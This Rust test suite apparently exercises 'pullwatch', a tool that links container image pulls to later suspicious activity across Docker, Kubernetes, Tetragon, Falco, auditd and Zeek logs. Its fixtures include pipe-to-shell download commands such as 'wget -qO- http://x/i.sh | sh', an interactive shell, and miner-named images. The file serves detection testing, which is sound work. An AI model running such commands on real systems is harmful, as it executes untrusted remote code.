//! End-to-end scenarios: real files in the real formats, the real binary, and the exact
//! alerts expected (rule, severity, entity, image and every evidence record's stage and
//! position).

use assert_cmd::Command;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

const T0: i64 = 1_795_165_200; // 2026-11-20T09:00:00Z
const NS: i64 = 1_000_000_000;
const CID: &str = "3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
const CID2: &str = "77aa2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
const DIGEST: &str = "sha256:5f3a2b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a";

fn iso(secs: i64) -> String {
    jiff_like(secs)
}

/// RFC 3339 for whole seconds, without pulling a time crate into the tests.
fn jiff_like(secs: i64) -> String {
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    let (h, m, s) = (rem / 3600, rem % 3600 / 60, rem % 60);
    // Civil-from-days (proleptic Gregorian).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let mo = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = if mo <= 2 { y + 1 } else { y };
    format!("{y:04}-{mo:02}-{d:02}T{h:02}:{m:02}:{s:02}Z")
}

fn docker(secs: i64, typ: &str, action: &str, id: &str, image: &str) -> Value {
    json!({"Type": typ, "Action": action, "Actor": {"ID": id, "Attributes": {"image": image, "name": "c"}},
           "scope": "local", "time": T0 + secs, "timeNano": (T0 + secs) * NS})
}

fn docker_chain(image: &str, id: &str, activity_at: i64, cmd: &str) -> Vec<Value> {
    vec![
        docker(0, "image", "pull", image, image),
        docker(2, "container", "create", id, image),
        docker(3, "container", "start", id, image),
        docker(
            activity_at,
            "container",
            &format!("exec_start: {cmd}"),
            id,
            image,
        ),
    ]
}

/// One kubelet Event; every field varies across the scenarios, hence the long list.
#[allow(clippy::too_many_arguments)]
fn kubelet(
    secs: i64,
    uid: &str,
    ns: &str,
    pod: &str,
    cname: &str,
    reason: &str,
    msg: &str,
    node: &str,
    count: u32,
) -> Value {
    json!({"kind":"Event","apiVersion":"v1",
        "metadata":{"name": format!("{pod}.{uid}"),"namespace":ns,"uid":uid},
        "involvedObject":{"kind":"Pod","namespace":ns,"name":pod,"fieldPath":format!("spec.containers{{{cname}}}")},
        "reason":reason,"message":msg,"source":{"component":"kubelet","host":node},
        "firstTimestamp":iso(T0 + secs),"lastTimestamp":iso(T0 + secs + if count > 1 { 120 } else { 0 }),"count":count,"type":"Normal"})
}

fn tetra_pod(
    ns: &str,
    pod: &str,
    cname: &str,
    id: &str,
    image: &str,
    digest: &str,
    started: i64,
) -> Value {
    let repo = image.rsplit_once(':').map_or(image, |(r, _)| r);
    json!({"namespace":ns,"name":pod,"container":{"id":format!("containerd://{id}"),"name":cname,
        "image":{"id":format!("{repo}@{digest}"),"name":image},"start_time":iso(T0 + started),"pid":1}})
}

fn tetra_exec(
    secs: i64,
    node: &str,
    pid: u32,
    binary: &str,
    args: &str,
    pod: Option<&Value>,
) -> Value {
    let mut p = json!({"exec_id":format!("e{pid}"),"pid":pid,"uid":0,"cwd":"/","binary":binary,"arguments":args,
        "flags":"execve","start_time":iso(T0 + secs)});
    if let Some(pod) = pod {
        p["pod"] = pod.clone();
    }
    json!({"process_exec":{"process":p,"parent":{"pid":1}},"node_name":node,"time":iso(T0 + secs)})
}

fn tetra_connect(
    secs: i64,
    node: &str,
    pod: &Value,
    saddr: &str,
    daddr: &str,
    dport: u16,
) -> Value {
    json!({"process_kprobe":{"process":{"exec_id":"x","pid":77,"binary":"/app/agent","start_time":iso(T0),"pod":pod},
        "parent":{"pid":1},"function_name":"tcp_connect",
        "args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":saddr,"daddr":daddr,"sport":40000,"dport":dport}}]},
        "node_name":node,"time":iso(T0 + secs)})
}

fn go_time(secs: i64) -> String {
    iso(secs).replace('T', " ").replace('Z', ".5 +0000 UTC")
}

fn containerd(secs: i64, topic: &str, payload: Value) -> String {
    format!("{} k8s.io {topic} {payload}", go_time(T0 + secs))
}

fn auditd_exec(secs: i64, serial: u32, pid: u32, ppid: u32, exe: &str, argv: &[&str]) -> String {
    let args: Vec<String> = argv
        .iter()
        .enumerate()
        .map(|(i, a)| format!("a{i}=\"{a}\""))
        .collect();
    let ts = format!("{}.123:{serial}", T0 + secs);
    format!(
        "type=SYSCALL msg=audit({ts}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid={ppid} pid={pid} auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"x\" exe=\"{exe}\" key=(null)\n\
         type=EXECVE msg=audit({ts}): argc={} {}\n\
         type=EOE msg=audit({ts}): \n",
        argv.len(),
        args.join(" ")
    )
}

struct Dir(tempfile::TempDir);

impl Dir {
    fn new() -> Dir {
        Dir(tempfile::tempdir().unwrap())
    }
    fn jsonl(&self, name: &str, records: &[Value]) -> PathBuf {
        let text: String = records.iter().map(|r| format!("{r}\n")).collect();
        self.text(name, &text)
    }
    fn text(&self, name: &str, text: &str) -> PathBuf {
        let p = self.0.path().join(name);
        std::fs::write(&p, text).unwrap();
        p
    }
    fn config(&self, yaml: &str) -> PathBuf {
        self.text("config.yaml", yaml)
    }
}

/// Runs a scan and returns each alert as one comparable line, plus stderr.
fn scan(args: &[&Path]) -> (Vec<String>, String) {
    scan_with(None, args)
}

fn scan_with(config: Option<&Path>, args: &[&Path]) -> (Vec<String>, String) {
    let mut cmd = Command::cargo_bin("pullwatch").unwrap();
    cmd.arg("scan").arg("--format").arg("json");
    if let Some(c) = config {
        cmd.arg("--config").arg(c);
    }
    for a in args {
        cmd.arg(a);
    }
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "exit {:?}: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    let alerts = stdout
        .lines()
        .map(|l| {
            let a: Value = serde_json::from_str(l).unwrap();
            let e = &a["entity"];
            let stages: Vec<String> = a["evidence"]
                .as_array()
                .unwrap()
                .iter()
                .map(|ev| {
                    let path = ev["source"]["path"].as_str().unwrap();
                    let file = Path::new(path).file_name().unwrap().to_str().unwrap();
                    format!(
                        "{}@{}:{}",
                        ev["stage"].as_str().unwrap(),
                        file,
                        ev["source"]["line"]
                    )
                })
                .collect();
            let s = |v: &Value| v.as_str().unwrap_or("-").to_string();
            format!(
                "{} {} host={} id={} pod={}/{} c={} image={} [{}]",
                s(&a["rule"]),
                s(&a["severity"]),
                s(&e["host"]),
                s(&e["container_id"]).get(..12).unwrap_or("-"),
                s(&e["namespace"]),
                s(&e["pod"]),
                s(&e["container"]),
                s(&a["image"]["ref"]),
                stages.join(" ")
            )
        })
        .collect();
    (alerts, String::from_utf8(out.stderr).unwrap())
}

#[test]
fn docker_chain_alerts_once_with_every_stage() {
    let d = Dir::new();
    let mut recs = docker_chain(
        "ghcr.io/evil/miner:1",
        CID,
        30,
        "sh -c wget -qO- http://x/i.sh | sh",
    );
    recs.push(docker(
        40,
        "container",
        "exec_start: curl http://x",
        CID,
        "ghcr.io/evil/miner:1",
    ));
    let f = d.jsonl("docker.jsonl", &recs);
    let (alerts, _) = scan(&[&f]);
    assert_eq!(
        alerts,
        vec!["an0691.chain high host=- id=3f9c2a7d1e8b pod=-/- c=c image=ghcr.io/evil/miner:1 [pull@docker.jsonl:1 create@docker.jsonl:2 start@docker.jsonl:3 activity@docker.jsonl:4]"]
    );
}

#[test]
fn allowlisted_images_and_quiet_untrusted_images_do_not_alert() {
    let d = Dir::new();
    let mut recs = docker_chain("nginx:1.27", CID, 30, "sh -c nginx -t");
    recs.extend(docker_chain(
        "ghcr.io/acme/webapp:3",
        CID2,
        40,
        "/app/bin/healthcheck",
    ));
    let f = d.jsonl("docker.jsonl", &recs);
    let (alerts, stderr) = scan(&[&f]);
    assert_eq!(alerts, Vec::<String>::new());
    assert!(stderr.contains("alerts: none"), "{stderr}");
}

#[test]
fn activity_after_the_window_does_not_alert() {
    let d = Dir::new();
    let f = d.jsonl(
        "docker.jsonl",
        &docker_chain("ghcr.io/evil/miner:1", CID, 16 * 60, "sh"),
    );
    assert_eq!(scan(&[&f]).0, Vec::<String>::new());
    let cfg = d.config("time_window: 20m\n");
    assert_eq!(scan_with(Some(&cfg), &[&f]).0.len(), 1);
}

#[test]
fn an_unrelated_pull_does_not_join_another_images_container() {
    let d = Dir::new();
    let recs = vec![
        docker(0, "image", "pull", "ghcr.io/evil/a:1", "ghcr.io/evil/a:1"),
        docker(2, "container", "create", CID, "nginx:latest"),
        docker(3, "container", "start", CID, "nginx:latest"),
        docker(20, "container", "exec_start: sh", CID, "nginx:latest"),
        // An untrusted image already present: the chain starts at the container, not at the unrelated pull.
        docker(30, "container", "create", CID2, "ghcr.io/evil/b:1"),
        docker(31, "container", "start", CID2, "ghcr.io/evil/b:1"),
        docker(35, "container", "exec_start: sh", CID2, "ghcr.io/evil/b:1"),
    ];
    let f = d.jsonl("docker.jsonl", &recs);
    assert_eq!(
        scan(&[&f]).0,
        vec!["an0691.chain high host=- id=77aa2a7d1e8b pod=-/- c=c image=ghcr.io/evil/b:1 [create@docker.jsonl:5 start@docker.jsonl:6 activity@docker.jsonl:7]"]
    );
}

#[test]
fn kubernetes_chain_through_kubelet_and_tetragon_with_repeated_events() {
    let d = Dir::new();
    let img = "docker.io/kitty0x/toolbox:latest";
    let ev = d.jsonl(
        "kubelet.jsonl",
        &[
            kubelet(2, "u-1", "apps", "tool-1", "worker", "Pulling", "Pulling image \"kitty0x/toolbox:latest\"", "node-a", 1),
            kubelet(9, "u-2", "apps", "tool-1", "worker", "Pulled", "Successfully pulled image \"kitty0x/toolbox:latest\" in 6.9s (6.9s including waiting). Image size: 1 bytes.", "node-a", 1),
            kubelet(10, "u-3", "apps", "tool-1", "worker", "Created", "Created container: worker", "node-a", 1),
            kubelet(10, "u-4", "apps", "tool-1", "worker", "Started", "Started container worker", "node-a", 1),
            kubelet(2, "u-1", "apps", "tool-1", "worker", "Pulling", "Pulling image \"kitty0x/toolbox:latest\"", "node-a", 3),
        ],
    );
    let pod = tetra_pod("apps", "tool-1", "worker", CID, img, DIGEST, 10);
    let tg = d.jsonl(
        "tetragon.jsonl",
        &[
            tetra_exec(11, "node-a", 10, "/app/agent", "--serve", Some(&pod)),
            tetra_exec(12, "node-a", 11, "/usr/bin/curl", "-s http://example", None),
            tetra_exec(
                40,
                "node-a",
                12,
                "/usr/bin/python3.11",
                "-c 'import os'",
                Some(&pod),
            ),
            tetra_exec(45, "node-a", 13, "/usr/bin/curl", "http://x", Some(&pod)),
        ],
    );
    let (alerts, stderr) = scan(&[&tg, &ev]);
    assert_eq!(
        alerts,
        vec![format!("an0691.chain high host=node-a id=3f9c2a7d1e8b pod=apps/tool-1 c=worker image={img}@{DIGEST} [pull@kubelet.jsonl:1 create@kubelet.jsonl:3 start@kubelet.jsonl:4 activity@tetragon.jsonl:3]")]
    );
    assert!(stderr.contains("duplicates dropped: 2"), "{stderr}");
}

#[test]
fn scoped_namespace_egress_to_public_addresses_but_not_private_ones() {
    let d = Dir::new();
    let img = "quay.io/evil/agent:2";
    let pod = tetra_pod("default", "agent-1", "agent", CID, img, DIGEST, 5);
    let tg = d.jsonl(
        "tetragon.jsonl",
        &[
            tetra_exec(5, "node-a", 10, "/app/agent", "", Some(&pod)),
            tetra_connect(20, "node-a", &pod, "10.244.1.23", "10.96.0.10", 53),
            tetra_connect(30, "node-a", &pod, "10.244.1.23", "93.184.216.34", 443),
        ],
    );
    assert_eq!(
        scan(&[&tg]).0,
        vec![format!("an0691.chain critical host=node-a id=3f9c2a7d1e8b pod=default/agent-1 c=agent image={img}@{DIGEST} [activity@tetragon.jsonl:3]")]
    );
    // Outside the scoped namespaces, only the block list counts.
    let pod2 = tetra_pod("apps", "agent-2", "agent", CID2, img, DIGEST, 5);
    let tg2 = d.jsonl(
        "tetragon2.jsonl",
        &[
            tetra_exec(5, "node-a", 10, "/app/agent", "", Some(&pod2)),
            tetra_connect(30, "node-a", &pod2, "10.244.1.24", "93.184.216.34", 443),
            tetra_connect(40, "node-a", &pod2, "10.244.1.24", "203.0.113.9", 4444),
        ],
    );
    assert_eq!(scan(&[&tg2]).0, Vec::<String>::new());
    let cfg = d.config("outbound_cidr_block_list: [203.0.113.0/24]\n");
    assert_eq!(
        scan_with(Some(&cfg), &[&tg2]).0,
        vec![format!("an0691.chain high host=node-a id=77aa2a7d1e8b pod=apps/agent-2 c=agent image={img}@{DIGEST} [activity@tetragon2.jsonl:3]")]
    );
}

#[test]
fn falco_activity_completes_a_docker_chain_by_short_id() {
    let d = Dir::new();
    let dk = d.jsonl(
        "docker.jsonl",
        &docker_chain("ghcr.io/evil/miner:1", CID, 3, "/app/run"),
    );
    let falco = d.jsonl(
        "falco.jsonl",
        &[
            json!({"hostname":"h","output":"x","priority":"Notice","rule":"Terminal shell in container","source":"syscall","time":iso(T0 + 20),
               "output_fields":{"evt.time":(T0 + 20) * NS,"container.id":&CID[..12],"container.name":"c","proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"bash -i","proc.pid":99}}),
            json!({"hostname":"h","output":"x","priority":"Notice","rule":"Terminal shell in container","source":"syscall","time":iso(T0 + 21),
               "output_fields":{"evt.time":(T0 + 21) * NS,"container.id":"host","proc.name":"bash","proc.cmdline":"bash"}}),
        ],
    );
    assert_eq!(
        scan(&[&falco, &dk]).0,
        vec!["an0691.chain high host=h id=3f9c2a7d1e8b pod=-/- c=c image=ghcr.io/evil/miner:1 [pull@docker.jsonl:1 create@docker.jsonl:2 start@docker.jsonl:3 activity@falco.jsonl:1]"]
    );
}

#[test]
fn containerd_and_auditd_chain_by_process_ancestry() {
    let d = Dir::new();
    let ctr = d.text(
        "containerd.log",
        &[
            containerd(0, "/images/create", json!({"name":"ghcr.io/evil/miner:1"})),
            containerd(2, "/containers/create", json!({"id":CID,"image":"ghcr.io/evil/miner:1","runtime":{"name":"io.containerd.runc.v2"}})),
            containerd(3, "/tasks/start", json!({"container_id":CID,"pid":4242})),
            containerd(100, "/tasks/exit", json!({"container_id":CID,"id":CID,"pid":4242,"exit_status":0,"exited_at":{"seconds":T0 + 100,"nanos":0}})),
        ]
        .join("\n"),
    );
    let audit = d.text(
        "audit.log",
        &[
            // A host process right after the pull: not in any container.
            auditd_exec(
                5,
                100,
                5000,
                1,
                "/usr/bin/curl",
                &["curl", "-s", "http://updates"],
            ),
            // Two generations below the task pid: sh, then curl.
            auditd_exec(
                20,
                101,
                4300,
                4242,
                "/bin/sh",
                &["sh", "-c", "curl http://x | sh"],
            ),
            auditd_exec(21, 102, 4301, 4300, "/usr/bin/curl", &["curl", "http://x"]),
            // After the container exited, pid 4242's number is someone else's.
            auditd_exec(120, 103, 6000, 4242, "/usr/bin/wget", &["wget", "http://y"]),
        ]
        .concat(),
    );
    assert_eq!(
        scan(&[&ctr, &audit]).0,
        vec!["an0691.chain high host=- id=3f9c2a7d1e8b pod=-/- c=- image=ghcr.io/evil/miner:1 [pull@containerd.log:1 create@containerd.log:2 start@containerd.log:3 activity@audit.log:4]"]
    );
}

#[test]
fn zeek_flows_map_to_the_container_holding_the_source_address() {
    let d = Dir::new();
    let img = "ghcr.io/evil/miner:1";
    let pod = tetra_pod("apps", "m-1", "m", CID, img, DIGEST, 3);
    let ctr = d.text(
        "containerd.log",
        &[
            containerd(0, "/images/create", json!({"name":img})),
            containerd(2, "/containers/create", json!({"id":CID,"image":img})),
            containerd(3, "/tasks/start", json!({"container_id":CID,"pid":4242})),
            containerd(
                60,
                "/tasks/exit",
                json!({"container_id":CID,"id":CID,"pid":4242}),
            ),
        ]
        .join("\n"),
    );
    let tg = d.jsonl(
        "tetragon.jsonl",
        &[tetra_connect(
            10,
            "node-a",
            &pod,
            "10.244.1.23",
            "10.96.0.10",
            53,
        )],
    );
    let zeek_header = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\n#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\n";
    let row = |secs: i64, src: &str| {
        format!(
            "{}.000100\tC{secs}\t{src}\t40000\t169.254.169.254\t80\ttcp\thttp\t0.1\n",
            T0 + secs
        )
    };
    let after_exit = d.text(
        "after.log",
        &format!("{zeek_header}{}", row(70, "10.244.1.23")),
    );
    assert_eq!(scan(&[&ctr, &tg, &after_exit]).0, Vec::<String>::new());
    let during = d.text(
        "conn.log",
        &format!("{zeek_header}{}", row(20, "10.244.1.23")),
    );
    assert_eq!(
        scan(&[&ctr, &tg, &during]).0,
        vec![format!("an0691.chain high host=node-a id=3f9c2a7d1e8b pod=apps/m-1 c=m image={img}@{DIGEST} [pull@containerd.log:1 create@containerd.log:2 start@containerd.log:3 activity@conn.log:8]")]
    );
}

#[test]
fn out_of_order_records_across_and_within_files_give_the_same_alerts() {
    let d = Dir::new();
    let recs = docker_chain("ghcr.io/evil/miner:1", CID, 30, "sh");
    let ordered = d.jsonl("ordered.jsonl", &recs);
    let (expected, _) = scan(&[&ordered]);
    assert_eq!(expected.len(), 1);
    // The same records split over two files, each reversed (out of order by less than
    // the allowed lateness), given in either order.
    let a = d.jsonl("a.jsonl", &[recs[3].clone(), recs[1].clone()]);
    let b = d.jsonl("b.jsonl", &[recs[2].clone(), recs[0].clone()]);
    let (one, _) = scan(&[&a, &b]);
    let (two, _) = scan(&[&b, &a]);
    assert_eq!(one, two);
    assert_eq!(
        one,
        vec!["an0691.chain high host=- id=3f9c2a7d1e8b pod=-/- c=c image=ghcr.io/evil/miner:1 [pull@b.jsonl:2 create@a.jsonl:2 start@b.jsonl:1 activity@a.jsonl:1]"]
    );
}

#[test]
fn malformed_lines_are_counted_and_located() {
    let d = Dir::new();
    let mut text: String = docker_chain("ghcr.io/evil/miner:1", CID, 30, "sh")
        .iter()
        .map(|r| format!("{r}\n"))
        .collect();
    text.insert_str(0, "{\"Type\":\"container\",\"Action\":\n\u{1}\u{2}garbage\n{\"Type\":\"container\",\"Action\":\"start\",\"Actor\":{\"ID\":\"x\"}}\n");
    let f = d.text("mixed.jsonl", &text);
    let (alerts, stderr) = scan(&[&f]);
    assert_eq!(alerts.len(), 1);
    assert!(stderr.contains("skipped: 3 records"), "{stderr}");
    assert!(stderr.contains("mixed.jsonl:1"), "{stderr}");
    assert!(stderr.contains("mixed.jsonl:2"), "{stderr}");
    assert!(
        stderr.contains("docker-events: missing field timeNano"),
        "{stderr}"
    );
}

#[test]
fn config_errors_exit_2_with_the_location() {
    let d = Dir::new();
    let cfg = d.config("time_window: 5m\nsuspicious_binarys: [sh]\n");
    let out = Command::cargo_bin("pullwatch")
        .unwrap()
        .args(["scan", "--config"])
        .arg(&cfg)
        .arg("-")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("config.yaml:2:"), "{err}");
    assert!(err.contains("suspicious_binarys"), "{err}");
    let show = Command::cargo_bin("pullwatch")
        .unwrap()
        .args(["config", "show"])
        .output()
        .unwrap();
    assert!(show.status.success());
    assert!(String::from_utf8_lossy(&show.stdout).contains("time_window: 15m"));
}

#[test]
fn bundled_examples_alert_with_no_config() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples");
    let (alerts, stderr) = scan(&[&root]);
    assert_eq!(
        alerts,
        vec![
            "an0691.namespace_scope medium host=- id=- pod=default/report-gen-7d9f8-x2kqp c=- image=docker.io/kitty0x/toolbox:latest [create@audit.jsonl:2]".to_string(),
            format!("an0691.chain critical host=ip-10-0-3-17 id=3f9c2a7d1e8b pod=default/report-gen-7d9f8-x2kqp c=worker image=docker.io/kitty0x/toolbox:latest@{DIGEST} [create@audit.jsonl:2 pull@kubelet-events.jsonl:1 create@kubelet-events.jsonl:3 start@kubelet-events.jsonl:4 activity@tetragon.jsonl:5]"),
            "an0691.chain high host=- id=c0ffee00d15e pod=-/- c=metrics-sidecar image=ghcr.io/cr0wbar/xmr-proxy:2.1 [pull@events.jsonl:5 create@events.jsonl:6 start@events.jsonl:7 activity@events.jsonl:8]".to_string(),
            "an0692.chain high host=ip-10-20-1-16 id=- pod=-/- c=- image=ami-0f9e8d7c6b5a49382 [launch@cloudtrail.json:86 activity@vpc-flow.log:4]".to_string(),
        ]
    );
    assert!(stderr.contains("skipped: none"), "{stderr}");
}
